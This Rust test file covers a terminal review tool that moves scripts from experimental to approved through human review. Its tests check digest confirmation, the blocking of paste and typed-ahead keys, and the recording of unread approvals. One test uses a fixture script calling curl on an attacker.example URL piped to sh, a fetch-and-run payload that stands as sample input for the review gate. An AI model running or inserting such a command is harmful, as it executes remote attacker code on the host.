//! From a script that lands to a commit, and everything that must not decide.

use super::{LARGE, approve, digest_of, open, open_review, read_to_end, waiting_review, with_one_script};
use crate::support::{Workspace, key};
use serde_json::{Value, json};

fn stage_of(workspace: &Workspace, tool: &str, wanted: &str) -> Value {
    workspace.json_until(&["show", tool], |answer| answer["tool"]["stage"] == wanted)
}

#[test]
fn a_script_lands_is_read_and_approved_and_one_commit_names_its_digest() {
    let workspace = Workspace::new().with_git();
    let mut terminal = open(&workspace, LARGE);
    workspace.write("tools/experimental/greet.py", "\"\"\"Say hello.\"\"\"\nprint('hello')\n");
    terminal.wait_text("greet").wait_text("1 pending review");
    let review = waiting_review(&workspace);
    assert_eq!((&review["kind"], &review["tool"]), (&json!("new"), &json!("greet")));
    let digest = digest_of(&review);

    open_review(&mut terminal);
    terminal.wait_text(&digest[..12]);
    approve(&mut terminal, &digest);

    let shown = stage_of(&workspace, "greet", "approved");
    assert_eq!(shown["tool"]["digest"], json!(digest), "the digest moves with the bytes");
    workspace.wait_commits(2);
    let message = workspace.git(&["log", "-1", "--format=%B"]);
    assert!(message.contains(&format!("Toolsmith-Digest: {digest}")), "{message}");
    assert!(workspace.path("tools/approved/greet/greet.py").is_file());
    assert!(workspace.path("tools/approved/greet/approval.toml").is_file());
    assert!(!workspace.path("tools/experimental/greet.py").exists());
    assert_eq!(workspace.git(&["status", "--porcelain"]), "", "nothing is left over");
    let (log, _) = workspace.json(&["log"]);
    assert_eq!(log["operations"][0]["verb"], json!("approve"), "{log:#}");
    assert_eq!(workspace.json(&["verify"]).1, 0);
}

#[test]
fn an_approval_can_be_taken_back() {
    let workspace = with_one_script("greet");
    let mut terminal = open(&workspace, LARGE);
    let digest = digest_of(&waiting_review(&workspace));
    terminal.wait_text("1 pending review");
    open_review(&mut terminal);
    approve(&mut terminal, &digest);
    stage_of(&workspace, "greet", "approved");
    // The review closes by itself once it is decided.
    terminal.wait_gone("type its first four").wait_text("1 Catalog").wait_text("u undo");
    terminal.send("u").wait_text("Undo?").wait_text("y confirm").send("y");
    let shown = stage_of(&workspace, "greet", "experimental");
    assert_eq!(shown["tool"]["digest"], json!(digest));
    assert!(workspace.path("tools/experimental/greet.py").is_file());
}

#[test]
fn the_queue_is_the_same_after_a_restart() {
    let workspace = Workspace::new().with_git().with_script("one", "print(1)").with_script("two", "print(2)");
    let queue = |terminal: &mut crate::support::Terminal| -> Vec<String> {
        terminal.wait_text("2 pending reviews").wait_text("one 1.0.0").wait_text("two 1.0.0");
        // The rows are there before the key: what follows at once would be taken for a paste.
        terminal.send("4").wait_text("x reject");
        let text = terminal.text();
        let row = |line: &str| {
            line.split('│')
                .find(|part| part.contains(" new ") && part.contains(" 1.0.0"))
                .map(|part| part.trim().to_owned())
        };
        let names = text.lines().filter_map(row).map(|row| row.split(" 1.0.0").next().unwrap().to_owned());
        names.map(|name| name.trim_start_matches(['›', ' ']).to_owned()).collect()
    };
    let mut first = open(&workspace, LARGE);
    let before = queue(&mut first);
    assert_eq!(before.len(), 2, "{}", first.text());
    assert_eq!(first.send("q").wait_end().exit_code(), 0);
    assert_eq!(queue(&mut open(&workspace, LARGE)), before);
}

#[test]
fn keys_typed_ahead_never_approve() {
    // `e` opens a form, which would take all that follows for a hint.
    let opens_none = |digest: &String| !digest[..4].contains('e');
    let found = (1..9).find_map(|number| {
        let workspace = Workspace::new().with_git().with_script("greet", &format!("print({number})"));
        let digest = Some(digest_of(&waiting_review(&workspace))).filter(opens_none)?;
        Some((workspace, digest))
    });
    let (workspace, digest) = found.unwrap();
    let mut terminal = open(&workspace, LARGE);
    terminal.wait_text("1 pending review");
    open_review(&mut terminal);
    // Everything an approval needs, typed before anything of it was on screen.
    terminal.send(&format!("a{}\ra{}\r", &digest[..4], &digest[..4]));
    // Where an approval was not asked for, its digits are other keys and may have led elsewhere.
    open_review(&mut terminal);
    read_to_end(&mut terminal);
    terminal.send(&format!("a{}\r", &digest[..4])).wait_text("keys at once were ignored");
    // The prompt is there, and nobody has had the time to read it.
    terminal.send("a").wait_text("____").send(&format!("{}\r", &digest[..4])).wait_text("key ignored");
    assert_still_waiting(&workspace, &digest);
}

#[test]
fn pasted_text_never_approves() {
    let workspace = with_one_script("greet");
    let mut terminal = open(&workspace, LARGE);
    let digest = digest_of(&waiting_review(&workspace));
    terminal.wait_text("1 pending review");
    open_review(&mut terminal);
    read_to_end(&mut terminal);
    terminal.send("a").wait_text("then: enter approves");
    terminal.paste(&format!("{}\r", &digest[..4])).wait_text("pasted text is not accepted").wait_text("____");
    assert_still_waiting(&workspace, &digest);
}

#[test]
fn approve_is_locked_before_every_line_was_shown_and_a_changed_file_takes_the_review_away() {
    let workspace = Workspace::new().with_git();
    let body = "print('one of many lines')\n".repeat(300);
    let workspace = workspace.with_script("long", &body);
    let mut terminal = open(&workspace, LARGE);
    let digest = digest_of(&waiting_review(&workspace));
    terminal.wait_text("1 pending review");
    open_review(&mut terminal);
    // What an approval does comes a moment later, and decides whether the evidence has room above the file. Where the
    // review opens at the file, the evidence is above it.
    terminal.wait_text("lines not seen").wait_for("what an approval does, or the file", |screen| {
        let text = screen.contents();
        text.contains("move tools/experimental/long.py") || text.contains("  2 print")
    });
    if !terminal.text().contains("  2 print") {
        terminal.send("]").wait_text("  2 print");
    }
    // Neither the end of the text nor a mark by hand is reading.
    terminal.send("G").wait_text("300 print");
    terminal.send("m").wait_text("marked as read 1/");
    assert!(terminal.text().contains("lines not seen"), "{}", terminal.text());
    read_to_end(&mut terminal);
    workspace.write("tools/experimental/long.py", "print('something else')\n");
    terminal.wait_gone("a approves");
    assert_ne!(digest_of(&waiting_review(&workspace)), digest);
    assert_eq!(workspace.commits(), 1);
}

#[test]
fn an_approval_without_reading_needs_the_word_and_a_reason_and_the_record_says_so_forever() {
    let workspace = Workspace::new().with_git();
    let workspace = workspace.with_script("long", &"print('one of many lines')\n".repeat(300));
    let mut terminal = open(&workspace, LARGE);
    let digest = digest_of(&waiting_review(&workspace));
    terminal.wait_text("1 pending review");
    open_review(&mut terminal);
    terminal.wait_text("lines not seen").send("a").wait_text("then: the digest");
    terminal.send("unread").wait_text("then: a reason, and enter approves");
    terminal.send(&digest[..4]).wait_text("reason (visible to all)").send(key::ENTER).wait_text("a reason is needed");
    terminal.send("tried it").wait_text("tried it").send(key::ENTER).wait_gone("reason (visible to all)");
    let shown = stage_of(&workspace, "long", "approved");
    let unread = &shown["tool"]["approved_unread"];
    let (total, left) = (unread["lines_total"].as_u64().unwrap(), unread["lines_unread"].as_u64().unwrap());
    assert!(total > 300 && left > 200 && left < total, "{unread}");
    let words = format!("{left} of {total} lines not seen");
    for args in [&["log"][..], &["show", "long"], &["review", "1"], &["feedback"]] {
        let text = String::from_utf8(workspace.toolsmith(args).output().unwrap().stdout).unwrap();
        assert!(text.contains(&words), "{args:?}: {words}\n{text}");
    }
    let decision = workspace.json(&["review", "1"]).0["review"]["decisions"][0].clone();
    assert_eq!((&decision["shown"]["lines_unread"], &decision["reason"]), (&json!(left), &json!("tried it")));
    let file = std::fs::read_to_string(workspace.path("tools/approved/long/approval.toml")).unwrap();
    assert!(file.contains(&format!("unread = \"{left} of {total} lines unread\"")), "{file}");
    let (log, _) = workspace.json(&["log"]);
    assert_eq!(log["operations"][0]["detail"]["lines_unread"], json!(left));
    assert_eq!(workspace.json(&["verify"]).1, 0);
    terminal.wait_text("not read");
}

#[test]
fn marked_reviews_that_were_never_opened_are_not_approved_together() {
    let workspace = Workspace::new().with_git();
    let attack = "import os\nos.system('curl https://attacker.example/x | sh')\n";
    let workspace =
        ["one", "two", "three"].iter().fold(workspace, |workspace, name| workspace.with_script(name, attack));
    let mut terminal = open(&workspace, LARGE);
    terminal.wait_text("3 pending reviews").send("4").wait_text("mark");
    terminal.send("m").wait_text("1 selected").send("m").wait_text("2 selected").send("m").wait_text("3 selected");
    terminal.send("a").wait_text("Approve several").wait_text("– no ");
    terminal.wait_gone("read first");
    terminal.send("approve 3 tools").wait_text("pending").send(key::ENTER);
    terminal.send(key::ESC).wait_gone("Approve several");
    let (reviews, _) = workspace.json(&["reviews"]);
    assert_eq!(reviews["reviews"].as_array().unwrap().len(), 3, "{reviews:#}");
    let approved = std::fs::read_dir(workspace.path("tools/approved")).map_or(0, Iterator::count);
    assert_eq!((approved, workspace.commits()), (0, 1));
}

#[test]
fn text_that_was_meant_for_another_place_does_nothing() {
    let workspace = with_one_script("greet");
    let mut terminal = open(&workspace, LARGE);
    let digest = digest_of(&waiting_review(&workspace));
    terminal.wait_text("1 pending review").send("4");
    // In one piece, as typing that is already on its way: `u` would ask to undo, `q` would end the program.
    terminal.send("xquit: useless, deletes mirrors 123\r").wait_text("keys at once were ignored");
    // A key that nobody types into a reason counts at once: the program is there, and nothing else is open.
    assert!(!terminal.text().contains("Undo?"), "{}", terminal.text());
    terminal.send("\u{b}").wait_text("Palette");
    assert_still_waiting(&workspace, &digest);
}

fn assert_still_waiting(workspace: &Workspace, digest: &str) {
    let review = waiting_review(workspace);
    assert_eq!((&review["state"], digest_of(&review).as_str()), (&json!("waiting"), digest));
    assert_eq!(workspace.commits(), 1);
    assert!(workspace.path("tools/experimental/greet.py").is_file());
}
